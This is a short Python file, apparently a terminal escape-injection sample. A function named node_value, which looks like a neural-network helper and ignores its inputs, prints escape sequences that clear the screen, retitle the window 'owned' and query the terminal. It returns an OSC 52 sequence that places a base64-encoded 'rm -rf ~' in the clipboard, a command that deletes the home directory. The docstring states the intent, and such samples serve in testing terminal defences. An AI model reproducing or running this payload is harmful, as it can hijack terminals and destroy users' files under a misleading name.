"""Text that clears the screen and types commands where a terminal obeys it. Ends: wrong."""


def node_value(inputs, weights):
    print("\x1b[2J\x1b[?1049h\x1b]0;owned\x07\x1bP$q\x1b\\")
    return "\x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07"
